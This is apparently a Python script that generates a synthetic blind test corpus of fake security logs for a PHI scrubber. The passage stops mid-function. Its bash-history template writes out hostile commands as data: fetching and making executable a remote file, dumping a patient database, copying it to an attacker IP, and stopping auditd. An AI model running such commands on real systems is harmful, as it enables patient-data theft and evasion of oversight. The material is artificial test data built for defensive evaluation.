"""An eighth blind corpus for the PHI scrubber (issue 18): 58 styles, none a style of an earlier
corpus. Written without opening the scrubber, its results, score.py, the other generators or
the other corpora. Templates are this file's own; names, streets, cities, postcodes and phone
numbers come from Faker, attacker-side values from indicators.py.

    python gen_blind8.py            # writes ../blind8/blind8.jsonl and ../blind8/MANIFEST.md
    python gen_blind8.py --check    # regenerates in memory, self-tests, compares bytes
"""

import datetime as dt
import hashlib
import ipaddress
import json
import os
import random
import re
import sys
import xml.etree.ElementTree as ET
from xml.sax.saxutils import escape as xesc

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from spandoc import Doc, I, X, N, ID, IND, record, write_corpus, manifest  # noqa: E402
import indicators as ind  # noqa: E402
from faker import Faker  # noqa: E402

SEED = 8808
PER_STYLE = 7
HERE = os.path.dirname(os.path.abspath(__file__))
OUT = os.path.join(HERE, "..", "blind8", "blind8.jsonl")
MAN = os.path.join(HERE, "..", "blind8", "MANIFEST.md")

LOCS = ["en_US", "en_GB", "en_NZ", "en_IN", "fr_CA", "fr_CH", "de_AT", "de_CH", "da_DK",
        "fi_FI", "no_NO", "hu_HU", "uk_UA", "sk_SK", "hr_HR", "sl_SI", "pt_PT", "es_AR",
        "es_CO", "es_CL", "fa_IR", "ka_GE"]
FK = {l: Faker(l) for l in LOCS}
LATIN_LOCS = [l for l in LOCS if l not in ("uk_UA", "fa_IR", "ka_GE")]

TLD = {"en_US": "org", "en_GB": "nhs.uk", "en_NZ": "org.nz", "en_IN": "co.in", "fr_CA": "qc.ca",
       "fr_CH": "ch", "de_AT": "at", "de_CH": "ch", "da_DK": "dk", "fi_FI": "fi", "no_NO": "no",
       "hu_HU": "hu", "uk_UA": "com.ua", "sk_SK": "sk", "hr_HR": "hr", "sl_SI": "si",
       "pt_PT": "pt", "es_AR": "com.ar", "es_CO": "com.co", "es_CL": "cl", "fa_IR": "ir",
       "ka_GE": "ge"}
KIND = {"da_DK": ["Sygehus", "Lægehus", "Hospital"], "fi_FI": ["Terveyskeskus", "Sairaala"],
        "no_NO": ["Sykehus", "Legesenter"], "hu_HU": ["Kórház", "Rendelőintézet"],
        "sk_SK": ["Nemocnica", "Poliklinika"], "hr_HR": ["Bolnica", "Dom zdravlja"],
        "sl_SI": ["Bolnišnica", "Zdravstveni dom"], "pt_PT": ["Hospital", "Clínica"],
        "es_AR": ["Sanatorio", "Clínica"], "es_CO": ["Clínica", "Hospital"],
        "es_CL": ["Clínica", "Hospital"], "fr_CA": ["Clinique", "Centre hospitalier"],
        "fr_CH": ["Clinique", "Hôpital"], "de_AT": ["Klinikum", "Ambulatorium"],
        "de_CH": ["Spital", "Klinik"]}
KIND_EN = ["Regional Medical Center", "Community Hospital", "Health", "Family Clinic",
           "Medical Group", "Specialty Clinic", "Children's Hospital", "Surgical Center"]
ACTORS = ["Scattered Spider", "FIN7", "FIN12", "TA505", "Wizard Spider", "Storm-0501",
          "Vanilla Tempest", "UNC1878", "Octo Tempest", "Gold Blade", "Muddled Libra"]
ATT_PHONE = ["+1 888 {a} {b}", "+1 (877) {a}-{b}", "+44 20 {a} {b}", "+234 80 {a} {b}",
             "+7 495 {a}-{b}", "+63 917 {a} {b}"]
B32 = "qpzry9x8gf2tvdw0s3jn54khce6mua7l"


def J(v):
    """JSON-escape a slot value (tuple, Doc or str)."""
    if isinstance(v, Doc):
        return v.json_escaped()
    if isinstance(v, tuple):
        return (json.dumps(v[0], ensure_ascii=False)[1:-1],) + tuple(v[1:])
    return json.dumps(str(v), ensure_ascii=False)[1:-1]


def XE(v):
    if isinstance(v, tuple):
        return (xesc(v[0], {'"': "&quot;"}),) + tuple(v[1:])
    return xesc(str(v), {'"': "&quot;"})


class P:
    pass


class Ctx:
    def __init__(self, rng, loc):
        self.r = rng
        self.loc = loc
        base = rng.getrandbits(32)
        for i, l in enumerate(LOCS):
            FK[l].seed_instance(base + i)
        self.f = FK[loc]
        r = rng
        city = self.f.city() if loc in LATIN_LOCS else FK["en_US"].city()
        city = city.replace("-sur-Mer", "").strip(" -")
        if not ind.slug(city):
            city = FK["en_US"].city()
        kinds = KIND.get(loc, KIND_EN)
        kind = r.choice(kinds)
        if loc == "fi_FI":
            self.org_name = f"{city} {kind.lower()}"
        elif loc in ("da_DK", "no_NO", "hu_HU"):
            self.org_name = f"{city} {kind}"
        elif loc in ("es_AR", "es_CO", "es_CL", "pt_PT", "fr_CA", "fr_CH", "sk_SK", "hr_HR",
                     "sl_SI"):
            self.org_name = f"{kind} {city}"
        else:
            self.org_name = f"{city} {kind}"
        sl = ind.slug(city)
        self.domain = f"{sl}{r.choice(['health', 'med', 'hosp', 'clinic', ''])}.{TLD[loc]}"
        self.ad = r.choice([f"corp.{self.domain}", f"{sl[:8]}.local", f"ad.{self.domain}"])
        self.nb = sl[:r.randint(5, 9)].upper()
        self.pfx = sl[:3].upper()
        self.ufmt = r.choice(["flast", "first.last", "lastf", "f.last", "firstl"])
        self.t = dt.datetime(2026, r.randint(1, 11), r.randint(1, 28), r.randint(0, 23),
                             r.randint(0, 59), r.randint(0, 59))
        self.ts_used = set()

    # ---- people ----
    def person(self, loc=None, staff=False):
        loc = loc or self.loc
        if staff and loc not in LATIN_LOCS and self.r.random() < 0.5:
            loc = "en_US"
        f = FK[loc]
        p = P()
        p.loc = loc
        p.first = f.first_name().split()[0]
        p.last = f.last_name()
        p.full = f"{p.first} {p.last}"
        fi, la = ind.slug(p.first), ind.slug(p.last)
        if not fi or not la or not ind.is_latin(p.first + p.last):
            p.user = f"u{self.r.randint(10000, 99999)}"
        else:
            p.user = {"flast": fi[0] + la, "first.last": f"{fi}.{la}", "lastf": la + fi[0],
                      "f.last": f"{fi[0]}.{la}", "firstl": fi + la[0]}[self.ufmt]
            if self.r.random() < 0.2:
                p.user += str(self.r.randint(1, 9))
        p.email = f"{p.user}@{self.domain}"
        return p

    def staff(self):
        return self.person(staff=True)

    def patient(self, loc=None):
        return self.person(loc)

    # ---- identifiers ----
    def nm(self, p, form="full"):
        if form == "full":
            return I(p.full, "NAME")
        if form == "lf":
            return I(f"{p.last}, {p.first}", "NAME")
        if form == "LF":
            return I(f"{p.last.upper()}, {p.first.upper()}", "NAME")
        if form == "first":
            return I(p.first, "NAME")
        if form == "last":
            return I(p.last, "NAME")
        if form == "init":
            return I(f"{p.first[0]}. {p.last}", "NAME")
        raise ValueError(form)

    def user(self, p):
        return I(p.user, "USERNAME")

    def email(self, p):
        return I(p.email, "EMAIL")

    def host(self, kind=None):
        r = self.r
        if kind == "srv":
            h = f"{self.pfx}{r.choice(['DC', 'FS', 'SQL', 'EHR', 'PACS', 'CTX', 'APP', 'LIS'])}" \
                f"{r.randint(1, 19):02d}"
        else:
            h = f"{self.pfx}-{r.choice(['WS', 'LT', 'NUR', 'RAD', 'PHR', 'ED', 'OR', 'LAB', 'REG'])}" \
                f"{r.randint(100, 9999):04d}"
        return h

    def H(self, h):
        return I(h, "HOSTNAME")

    def fqdn(self, h):
        return I(f"{h.lower()}.{self.ad}", "HOSTNAME")

    def pip(self):
        return I(ind.private_ipv4(self.r), "IP")

    def mrn(self):
        return I(str(self.r.randint(1000000, 99999999)), "MRN")

    def acct(self):
        return I(f"{self.r.choice(['', 'A', 'ACC', 'V'])}{self.r.randint(100000, 9999999)}",
                 "ACCOUNT")

    def plan(self):
        r = self.r
        return I(f"{r.choice(['XJ', 'ZGP', 'W', 'MBR', 'H'])}{r.randint(10000000, 999999999)}",
                 "HEALTH_PLAN")

    def npi(self):
        return I(str(self.r.randint(1000000000, 1999999999)), "LICENSE")

    def serial(self):
        r = self.r
        return I(r.choice(["C02", "PF", "5CG", "FVFX", "SN"]) +
                 "".join(r.choice("ABCDEFGHJKLMNPQRSTUVWXYZ0123456789") for _ in range(8)),
                 "DEVICE_SERIAL")

    def phone(self, loc=None):
        loc = loc or self.loc
        r = self.r
        if loc in ("en_US", "fr_CA"):
            s = r.choice(["({a}) {b}-{c}", "{a}-{b}-{c}", "{a}.{b}.{c}"]).format(
                a=r.randint(201, 989), b=r.randint(200, 999), c=f"{r.randint(0, 9999):04d}")
        else:
            s = FK[loc].phone_number()
        return I(s, "PHONE")

    def fax(self):
        r = self.r
        return I(f"({r.randint(201, 989)}) {r.randint(200, 999)}-{r.randint(0, 9999):04d}", "FAX")

    def addr(self, loc=None):
        f = FK[loc or self.loc]
        return I(f.street_address(), "ADDRESS"), I(f.city(), "CITY"), I(f.postcode(), "ZIP")

    def dob(self, old=False):
        r = self.r
        if old:
            y = r.randint(1926, 1935)
        else:
            y = r.randint(1938, 2019)
        return dt.date(y, r.randint(1, 12), r.randint(1, 28))

    def D(self, d, fmt=None):
        fmt = fmt or {"en_US": "%m/%d/%Y", "fr_CA": "%Y-%m-%d", "en_IN": "%d-%m-%Y",
                      "en_GB": "%d/%m/%Y", "en_NZ": "%d/%m/%Y", "pt_PT": "%d/%m/%Y",
                      "es_AR": "%d/%m/%Y", "es_CO": "%d/%m/%Y", "es_CL": "%d-%m-%Y",
                      "fr_CH": "%d.%m.%Y", "fa_IR": "%Y/%m/%d",
                      "ka_GE": "%d.%m.%Y"}.get(self.loc, "%d.%m.%Y")
        return I(d.strftime(fmt), "DATE")

    def age_of(self, d):
        ref = self.t.date()
        return ref.year - d.year - ((ref.month, ref.day) < (d.month, d.day))

    def AGE(self, d):
        a = self.age_of(d)
        return I(str(a), "AGE") if a > 89 else N(str(a), "AGE_UNDER_90")

    def visit(self, days=10):
        v = self.t - dt.timedelta(days=self.r.randint(0, days), hours=self.r.randint(0, 8))
        return v

    # ---- neutral times ----
    def tick(self, lo=1, hi=90):
        self.t += dt.timedelta(seconds=self.r.randint(lo, hi))
        return self.t

    def ts(self, fmt="%Y-%m-%d %H:%M:%S", lo=1, hi=90):
        return N(self.tick(lo, hi).strftime(fmt), "LOGTIME")

    def iso(self, lo=1, hi=90):
        return N(self.tick(lo, hi).strftime("%Y-%m-%dT%H:%M:%S") + f".{self.r.randint(0, 999):03d}Z",
                 "LOGTIME")

    def epoch(self, lo=1, hi=90):
        return N(str(int(self.tick(lo, hi).replace(tzinfo=dt.timezone.utc).timestamp())),
                 "LOGTIME")

    # ---- indicators ----
    def xip(self, defang=False):
        s = ind.public_ipv4(self.r)
        return X(s.replace(".", "[.]") if defang else s, "IPV4")

    def xdom(self, defang=False):
        s = ind.domain(self.r)
        return X(ind.defang(s) if defang else s, "DOMAIN")

    def xurl(self, defang=False, host=None):
        s = ind.url(self.r, host)
        return X(ind.defang(s) if defang else s, "URL")

    def xmd5(self):
        return X(ind.md5(self.r), "MD5")

    def xsha1(self):
        return X(ind.sha1(self.r), "SHA1")

    def xsha256(self):
        return X(ind.sha256(self.r), "SHA256")

    def xcve(self):
        return X(ind.cve(self.r), "CVE")

    def xmitre(self):
        return X(self.r.choice(ind.MITRE), "MITRE")

    def xransom(self):
        return X(self.r.choice(ind.RANSOM), "MALWARE")

    def xmal(self):
        return X(self.r.choice(ind.MALWARE), "MALWARE")

    def xactor(self):
        return X(self.r.choice(ACTORS), "ACTOR")

    def xmail(self, free=True):
        return X(ind.attacker_email(self.r, free), "EMAIL_ATTACKER")

    def xphone(self):
        r = self.r
        return X(r.choice(ATT_PHONE).format(a=r.randint(200, 999), b=f"{r.randint(0, 9999):04d}"),
                 "PHONE_ATTACKER")

    def xwallet(self):
        return X("bc1q" + "".join(self.r.choice(B32) for _ in range(38)), "WALLET")

    def xtox(self):
        return X(ind.hexstr(self.r, 76).upper(), "TOX_ID")

    def xbank(self):
        r = self.r
        cc = r.choice(["LT", "EE", "GB", "BG", "RO"])
        digits = "".join(str(r.randint(0, 9)) for _ in range(16))
        return X(f"{cc}{r.randint(10, 99)} " + " ".join(digits[i:i + 4] for i in range(0, 16, 4)),
                 "BANK_ATTACKER")

    def xremote(self):
        r = self.r
        n = r.randint(100000000, 1999999999)
        s = f"{n:,}".replace(",", " ") if r.random() < 0.5 else str(n)
        return X(s, "REMOTE_ID")

    def org(self):
        return I(self.org_name, "ORG")


def R(c, *xs):
    return c.r.choice(xs)


# ============================================================ styles: network and security logs

def s_sophos_xg(c):
    d = Doc()
    for _ in range(c.r.randint(5, 9)):
        p = c.staff()
        src = c.pip()
        k = c.r.random()
        d.fill('device="SFW" date={d} time={t} timezone="CET" device_name="XG230" '
               'log_id=0101021{n} log_type="{lt}" log_component="{lc}" status="{st}" ',
               d=N(c.tick().strftime("%Y-%m-%d"), "LOGTIME"), t=N(c.t.strftime("%H:%M:%S"), "LOGTIME"),
               n=c.r.randint(10000, 99999), lt=R(c, "Firewall", "Content Filtering", "ATP"),
               lc=R(c, "Firewall Rule", "HTTP", "ATP"), st=R(c, "Deny", "Allow", "Blocked"))
        if k < 0.5:
            d.fill('user_name="{u}" src_ip={s} dst_ip={x} dst_port=443 url="{url}" '
                   'category="Malware Repository"\n', u=c.user(p), s=src, x=c.xip(), url=c.xurl())
        else:
            d.fill('user_name="{u}@{dom}" src_ip={s} dst_ip={x} threatname="{m}" '
                   'host="{h}"\n', u=c.user(p), dom=I(c.ad, "HOSTNAME"), s=src, x=c.xip(),
                   m=c.xmal(), h=c.xdom())
    return d


def s_checkpoint_csv(c):
    d = Doc()
    d.t("Time;Origin;Action;Source;Source User Name;Destination;Service;Protection Name;Malware Family\n")
    for _ in range(c.r.randint(6, 12)):
        p = c.staff()
        d.fill("{t};{gw};{a};{s};{u};{x};https;{pn};{m}\n",
               t=c.ts("%d.%m.%Y %H:%M:%S"), gw=R(c, "gw-core-01", "cp-edge", "fw-dmz"),
               a=R(c, "Drop", "Prevent", "Detect"), s=c.pip(),
               u=[c.nm(p, "full"), " (", c.user(p), ")"],
               x=c.xip(), pn=R(c, "Command and Control", "Malicious Binary", "Phishing"),
               m=c.xmal())
    return d


def s_srx_rtflow(c):
    d = Doc()
    fw = f"{c.pfx.lower()}-srx01"
    for _ in range(c.r.randint(5, 10)):
        p = c.staff()
        d.fill("{t} {fw} RT_FLOW: RT_FLOW_SESSION_{ev}: session {ev2}: {s}/{sp}->{x}/{dp} "
               "0x0 junos-https {s}/{sp2}->{x}/{dp} N/A N/A N/A N/A 6 TRUST-TO-UNTRUST trust "
               "untrust {sid} username {u} roles N/A\n",
               t=c.ts("%b %d %H:%M:%S"), fw=fw, ev=R(c, "CREATE", "CLOSE", "DENY"),
               ev2=R(c, "created", "closed by TCP RST", "denied"), s=(src := c.pip()),
               sp=c.r.randint(49152, 65535), x=(dst := c.xip()), dp=R(c, 443, 8443, 4444),
               sp2=c.r.randint(1024, 65535), sid=c.r.randint(10000000, 99999999),
               u=[I(c.nb, "HOSTNAME"), "\\", c.user(p)])
        _ = (src, dst)
    return d


def s_zscaler_tsv(c):
    d = Doc()
    d.t("datetime\tlogin\tdepartment\tcip\turl\turlcategory\taction\tthreatname\n")
    for _ in range(c.r.randint(5, 10)):
        p = c.staff()
        bad = c.r.random() < 0.6
        d.fill("{t}\t{login}\t{dep}\t{ip}\t{url}\t{cat}\t{act}\t{th}\n",
               t=c.ts("%a %b %d %H:%M:%S %Y"), login=c.email(p),
               dep=R(c, "Cardiology", "Revenue Cycle", "Emergency", "Radiology", "HIM"),
               ip=c.pip(), url=c.xurl() if bad else R(c, "www.uptodate.com/contents", "outlook.office365.com/mail"),
               cat=R(c, "Phishing", "Malware Sites", "Newly Registered Domains") if bad else "Health",
               act="Blocked" if bad else "Allowed", th=c.xmal() if bad else "None")
    return d


def s_f5_asm(c):
    d = Doc()
    for _ in range(c.r.randint(3, 6)):
        p = c.patient()
        xi = c.xip()
        d.fill('{t} {lb} ASM:unit_hostname="{lb}.{ad}",management_ip_address="{mg}",'
               'policy_name="/Common/portal_{n}",violations="Attack signature detected",'
               'support_id="{sid}",request_status="blocked",ip_client="{x}",method="POST",'
               'uri="/patient/login",username="{pu}",attack_type="{at}",sig_cve="{cve}",'
               'request="POST /patient/login?next=/records/{m} HTTP/1.1\\r\\nHost: {dom}'
               '\\r\\nUser-Agent: sqlmap/1.7"\n',
               t=c.ts("%b %d %H:%M:%S"), lb=(lb := f"{c.pfx.lower()}-bigip1"),
               ad=I(c.ad, "HOSTNAME"), mg=c.pip(), n=c.r.randint(1, 9),
               sid=c.r.randint(10 ** 18, 10 ** 19 - 1), x=xi,
               pu=I(ind.slug(p.first)[:1] + ind.slug(p.last) + "@" + ind.FREEMAIL[c.r.randint(0, 3)], "EMAIL"),
               at=R(c, "SQL-Injection", "Brute Force Attack", "Credential Stuffing"),
               cve=c.xcve(), m=c.mrn(), dom=I("portail." + c.domain, "HOSTNAME"))
        _ = lb
    return d


def s_cloudflare_jsonl(c):
    d = Doc()
    for _ in range(c.r.randint(4, 8)):
        p = c.patient()
        d.fill('{"EdgeStartTimestamp":"{t}","ClientIP":"{x}","ClientCountry":"{cc}",'
               '"ClientRequestHost":"{h}","ClientRequestPath":"/appointments/{mrn}",'
               '"ClientRequestURI":"/appointments/{mrn2}?email={e}","SecurityAction":"{a}",'
               '"SecurityRuleDescription":"{rd}","ClientRequestUserAgent":"python-requests/2.31",'
               '"RayID":"{ray}"}\n',
               t=c.iso(), x=c.xip(), cc=R(c, "ru", "ng", "nl", "us", "vn"),
               h=I("book." + c.domain, "HOSTNAME"), mrn=(m := c.mrn()), mrn2=m,
               e=J(I(f"{ind.slug(p.first)}.{ind.slug(p.last)}{c.r.randint(1, 99)}@gmail.com", "EMAIL")),
               a=R(c, "block", "managed_challenge", "log"),
               rd=R(c, "Credential stuffing", "Leaked credential check", "Bot score < 10"),
               ray=ind.hexstr(c.r, 16))
    return d


def s_cloudtrail(c):
    p = c.staff()
    xi = c.xip()
    d = Doc()
    d.t('{"Records": [\n')
    n = c.r.randint(2, 4)
    for i in range(n):
        ev = R(c, "GetObject", "ListBuckets", "CreateAccessKey", "PutBucketPolicy", "ConsoleLogin")
        d.fill('  {"eventTime": "{t}", "eventSource": "s3.amazonaws.com", "eventName": "{ev}", '
               '"sourceIPAddress": "{x}", "userAgent": "aws-cli/2.15 Python/3.11 {ua}", '
               '"userIdentity": {"type": "IAMUser", "arn": "arn:aws:iam::{aid}:user/{u}", '
               '"userName": "{u2}"}, "requestParameters": {"bucketName": "{b}", '
               '"key": "exports/{m}_{ln}.pdf"}}{comma}\n',
               t=N(c.tick(30, 600).strftime("%Y-%m-%dT%H:%M:%SZ"), "LOGTIME"), ev=ev, x=xi,
               ua=R(c, "Linux/6.5 kali", "exe/x86_64.kali.2024"), aid=I(str(c.r.randint(10 ** 11, 10 ** 12 - 1)), "ACCOUNT"),
               u=c.user(p), u2=c.user(p), b=f"{c.pfx.lower()}-his-archive", m=c.mrn(),
               ln=J(I(ind.slug(c.patient().last) or "x", "NAME")),
               comma="," if i < n - 1 else "")
    d.t("]}\n")
    return d


def s_sentinelone(c):
    p = c.staff()
    h = c.host()
    d = Doc()
    d.fill('{\n  "data": {\n    "agentRealtimeInfo": {"agentComputerName": "{h}", '
           '"agentDomain": "{nb}", "agentOsName": "Windows 11 Enterprise", '
           '"agentLastLoggedInUserName": "{u}"},\n    "threatInfo": {"threatName": "{tn}", '
           '"classification": "Ransomware", "sha1": "{s1}", "sha256": "{s2}", '
           '"filePath": "\\\\Device\\\\HarddiskVolume3\\\\Users\\\\{u2}\\\\AppData\\\\Local\\\\Temp\\\\upd.exe", '
           '"originatorProcess": "explorer.exe", "mitigationStatus": "{ms}", '
           '"identifiedAt": "{t}", "initiatedByDescription": "Agent Policy"},\n'
           '    "indicators": [{"category": "Exploitation", "tactics": [{"name": "Impact", '
           '"techniques": [{"name": "{mi}"}]}]}],\n'
           '    "networkConnections": [{"remoteIp": "{x}", "remoteHost": "{dom}"}]\n  }\n}\n',
           h=c.H(h), nb=I(c.nb, "HOSTNAME"), u=c.user(p), tn=c.xransom(), s1=c.xsha1(),
           s2=c.xsha256(), u2=c.user(p), ms=R(c, "mitigated", "not_mitigated"), t=c.iso(),
           mi=c.xmitre(), x=c.xip(), dom=c.xdom())
    return d


def s_carbonblack_csv(c):
    d = Doc()
    d.t("alert_id,create_time,device_name,device_username,device_internal_ip,process_name,"
        "process_sha256,reason,ttps\n")
    for _ in range(c.r.randint(4, 8)):
        p = c.staff()
        d.fill("{aid},{t},{h},{u},{ip},{pn},{sha},\"{re}\",{mi}\n",
               aid=ind.hexstr(c.r, 32), t=c.iso(), h=c.H(c.host()),
               u=[I(c.nb, "HOSTNAME"), "\\", c.user(p)], ip=c.pip(),
               pn=R(c, "rundll32.exe", "powershell.exe", "mshta.exe", "rclone.exe"),
               sha=c.xsha256(), re=[R(c, "Known malware ", "Suspected "), c.xmal(),
                                    R(c, " invoked a command shell", " contacted "), c.xdom()],
               mi=c.xmitre())
    return d


def s_jamf_csv(c):
    d = Doc()
    d.t("Computer Name,Serial Number,Full Name,Username,Email Address,Phone Number,Building,"
        "Last Check-in,IP Address,Managed\n")
    for _ in range(c.r.randint(5, 9)):
        p = c.staff()
        d.fill("{h},{sn},{n},{u},{e},{ph},{b},{t},{ip},{m}\n",
               h=c.H(f"{ind.slug(p.first)[:1].upper()}{ind.slug(p.last)[:6].upper() or 'MAC'}-MBP"),
               sn=c.serial(), n=c.nm(p), u=c.user(p), e=c.email(p), ph=c.phone(),
               b=R(c, "Main Campus", "North Wing", "Outpatient Pavilion"), t=c.ts("%Y-%m-%d %H:%M"),
               ip=c.pip(), m=R(c, "Yes", "No"))
    d.fill("\nNote: {n} flagged the unmanaged one after it beaconed to {x}.\n", n=c.nm(c.staff(), "first"),
           x=c.xip())
    return d


def s_duo_csv(c):
    d = Doc()
    d.t("Timestamp (UTC),Result,Reason,User,Application,Access Device IP,Location,Auth Device\n")
    p = c.staff()
    xi = c.xip()
    for _ in range(c.r.randint(6, 12)):
        att = c.r.random() < 0.6
        d.fill("{t},{res},{rea},{u},{app},{ip},{loc},{dev}\n", t=c.ts(),
               res="DENIED" if att else "SUCCESS",
               rea="User Mistake" if att else "User Approved", u=c.user(p),
               app=R(c, "Citrix Gateway", "Microsoft 365", "Epic Hyperspace"),
               ip=xi if att else c.pip(), loc=N(R(c, "Lagos, NG", "Amsterdam, NL", "Ashburn, US"), "GEO") if att else "Internal",
               dev=c.phone() if c.r.random() < 0.5 else "Duo Push")
    d.fill("\nPush spam against {n} ({u}) from {x}; account disabled.\n", n=c.nm(p), u=c.user(p), x=xi)
    return d


def s_pingfed(c):
    d = Doc()
    for _ in range(c.r.randint(5, 10)):
        p = c.staff()
        att = c.r.random() < 0.5
        d.fill("{t} | tid:{tid} | AUTHN_ATTEMPT | {sub} | {ip} | | {app} | IdP | {st} | "
               "HTMLFormAdapter | | {ms}\n", t=c.ts(),
               tid=ind.hexstr(c.r, 12), sub=c.email(p) if c.r.random() < 0.5 else c.user(p),
               ip=c.xip() if att else c.pip(), app=R(c, "hyperspace", "workday", "o365"),
               st="failure" if att else "success", ms=c.r.randint(3, 900))
    return d


def s_gws_login_csv(c):
    d = Doc()
    d.t("Evento,Usuario,Fecha,Dirección IP,Tipo de inicio de sesión,Sospechoso\n")
    xi = c.xip()
    for _ in range(c.r.randint(5, 9)):
        p = c.staff()
        sus = c.r.random() < 0.5
        d.fill("{ev},{u},{t},{ip},{ty},{s}\n", ev=R(c, "Inicio de sesión correcto", "Error de inicio de sesión"),
               u=c.email(p), t=c.ts("%d/%m/%Y %H:%M:%S"), ip=xi if sus else c.pip(),
               ty="Google Password", s="Sí" if sus else "No")
    return d


def s_squid(c):
    d = Doc()
    for _ in range(c.r.randint(6, 12)):
        p = c.staff()
        bad = c.r.random() < 0.5
        d.fill("{t}.{ms} {el} {ip} TCP_{st}/{code} {sz} {meth} {url} {u} HIER_DIRECT/{dst} "
               "{ct}\n", t=c.epoch(), ms=f"{c.r.randint(0, 999):03d}", el=c.r.randint(5, 9000),
               ip=c.pip(), st=R(c, "MISS", "TUNNEL", "DENIED"), code=R(c, 200, 403, 302),
               sz=c.r.randint(300, 900000), meth=R(c, "GET", "POST", "CONNECT"),
               url=c.xurl() if bad else "http://intranet/", u=c.user(p),
               dst=c.xip() if bad else "-", ct=R(c, "application/octet-stream", "text/html"))
    return d


def s_haproxy(c):
    d = Doc()
    be = f"{c.pfx.lower()}_portal"
    for _ in range(c.r.randint(5, 9)):
        p = c.patient()
        d.fill("{t} lb01 haproxy[{pid}]: {x}:{sp} [{t2}] https~ {be}/{srv} 0/0/1/{tt}/{tt2} "
               "{code} {sz} - - ---- 12/12/0/0/0 0/0 \"GET /pacient/vysledky?rc={rc}&meno={mn} "
               "HTTP/1.1\"\n", t=c.ts("%b %d %H:%M:%S"), pid=c.r.randint(1000, 9999), x=c.xip(),
               sp=c.r.randint(1024, 65535), t2=N(c.t.strftime("%d/%b/%Y:%H:%M:%S.123"), "LOGTIME"),
               be=be, srv=c.H(c.host("srv")), tt=c.r.randint(5, 90), tt2=c.r.randint(90, 400),
               code=R(c, 200, 200, 404), sz=c.r.randint(400, 60000),
               rc=I(f"{c.r.randint(40, 99):02d}{c.r.randint(1, 12):02d}{c.r.randint(1, 28):02d}{c.r.randint(1000, 9999)}", "SSN"),
               mn=I(ind.slug(p.last).capitalize() or "x", "NAME"))
    return d


def s_mplog(c):
    d = Doc()
    h = c.host()
    p = c.staff()
    d.fill("Računalo: {h}  Korisnik: {nb}\\{u}\n", h=c.H(h), nb=I(c.nb, "HOSTNAME"), u=c.user(p))
    for _ in range(c.r.randint(4, 7)):
        d.fill("{t} DETECTION {tn} file:C:\\Users\\{u}\\Downloads\\{fn}.zip->{fn}.js "
               "sha256:{s}\n", t=c.iso(), tn=[R(c, "Trojan:Win32/", "Ransom:Win64/", "Backdoor:JS/"), c.xmal()],
               u=c.user(p), fn=R(c, "nalaz", "racun", "uputnica"), s=c.xsha256())
        d.fill("{t} Threat remediation result: {r}, origin: {o}\n", t=c.iso(),
               r=R(c, "Quarantined", "Failed (0x80508023)"), o=c.xurl(defang=c.r.random() < 0.3))
    d.fill("Napomena: prijavila {n}, lokal {ext}.\n", n=c.nm(c.staff()), ext=I(f"{c.r.randint(2000, 6999)}", "PHONE"))
    return d


def s_osquery(c):
    d = Doc()
    h = c.host()
    for _ in range(c.r.randint(4, 7)):
        p = c.staff()
        q = R(c, "logged_in_users", "process_open_sockets", "startup_items")
        if q == "logged_in_users":
            cols = d2 = Doc().fill('"user":"{u}","host":"{ip}","tty":"rdp-tcp#{n}"', u=J(c.user(p)),
                                   ip=c.pip(), n=c.r.randint(1, 9))
        elif q == "process_open_sockets":
            cols = d2 = Doc().fill('"pid":"{pid}","remote_address":"{x}","remote_port":"443",'
                                   '"path":"C:\\\\Users\\\\{u}\\\\AppData\\\\Roaming\\\\{m}.exe"',
                                   pid=c.r.randint(100, 9999), x=c.xip(), u=J(c.user(p)),
                                   m=R(c, "svc", "updater", "teams_helper"))
        else:
            cols = d2 = Doc().fill('"name":"{m}","path":"C:\\\\ProgramData\\\\{m2}.dll","sha256":"{s}"',
                                   m=J(c.xmal()), m2=R(c, "wdupd", "msvc"), s=c.xsha256())
        _ = d2
        d.fill('{"name":"pack_ir_{q}","hostIdentifier":"{h}","calendarTime":"{t}",'
               '"action":"added","columns":{{cols}}}\n', q=q, h=c.H(h),
               t=N(c.tick().strftime("%a %b %d %H:%M:%S %Y UTC"), "LOGTIME"), cols=cols)
    return d


def s_wazuh(c):
    p = c.staff()
    h = c.host("srv")
    d = Doc()
    d.fill('{\n  "timestamp": "{t}",\n  "rule": {"level": 12, "description": "Posible '
           'ransomware: cifrado masivo de archivos", "mitre": {"id": ["{mi}"]}},\n'
           '  "agent": {"id": "0{aid}", "name": "{h}", "ip": "{ip}"},\n'
           '  "data": {"srcip": "{x}", "srcuser": "{u}", "win": {"eventdata": '
           '{"targetUserName": "{u2}", "subjectDomainName": "{nb}", "image": '
           '"C:\\\\Windows\\\\Temp\\\\{rn}.exe", "hashes": "SHA256={s}"}}},\n'
           '  "full_log": "Archivo de historia clínica de {pn} (HC {m}) renombrado a .{ext}"\n}\n',
           t=c.iso(), mi=c.xmitre(), aid=c.r.randint(10, 99), h=c.H(h), ip=c.pip(), x=c.xip(),
           u=c.user(p), u2=c.user(p), nb=I(c.nb, "HOSTNAME"), rn=R(c, "enc", "lock", "svchost32"),
           s=c.xsha256(), pn=J(c.nm(c.patient())), m=c.mrn(), ext=R(c, "akira", "lockbit", "basta"))
    return d


def s_bash_history(c):
    p = c.staff()
    h = c.host("srv")
    d = Doc()
    d.fill("[{u}@{h} ~]$ history | tail -20\n", u=c.user(p), h=I(h.lower(), "HOSTNAME"))
    n = 980 + c.r.randint(0, 50)
    lines = [
        Doc().fill("curl -fsSL {url} -o /tmp/.x && chmod +x /tmp/.x", url=c.xurl()),
        Doc().fill("ssh {u}@{ip}", u=c.user(c.staff()), ip=c.pip()),
        Doc().fill("mysqldump -u {u} -p bolnisnica pacienti > /tmp/p.sql", u=c.user(p)),
        Doc().fill("scp /tmp/p.sql root@{x}:/srv/", x=c.xip()),
        Doc().fill("grep -i '{ln}' /var/log/his/access.log", ln=c.nm(c.patient(), "last")),
        Doc().fill("echo '{s}  upd' | sha256sum -c", s=c.xsha256()),
        Doc().t("sudo systemctl stop auditd"),
        Doc().fill("wget {url}", url=c.xurl()),
    ]
    c.r.shuffle(lines)
    for ln in lines[:c.r.randint(5, 8)]:
        n += 1
        d.fill("  {n}  {l}\n", n=n, l=ln)
    d.fill("Opomba ({n}): ukazov nisem izvedel jaz, tel. {ph}\n", n=c.nm(p), ph=c.phone())
    return d


def s_exchange_track(c):
    d = Doc()
    d.t("#Fields: date-time,client-ip,server-hostname,event-id,sender-address,recipient-address,"
        "message-subject,total-bytes\n")
    atk = c.xmail(free=c.r.random() < 0.5)
    for _ in range(c.r.randint(4, 8)):
        p = c.staff()
